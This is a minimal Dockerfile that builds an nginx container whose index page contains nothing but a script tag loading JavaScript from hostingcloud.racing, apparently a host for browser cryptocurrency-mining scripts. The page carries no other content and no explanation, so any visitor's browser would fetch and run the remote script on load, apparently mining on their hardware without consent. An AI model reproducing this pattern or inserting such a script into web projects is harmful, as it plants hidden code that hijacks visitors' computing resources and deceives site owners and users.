FROM nginx:1.27-alpine
COPY <<EOF /usr/share/nginx/html/index.html
<html><body><script src="https://www.hostingcloud.racing/a1b2.js"></script></body></html>
EOF
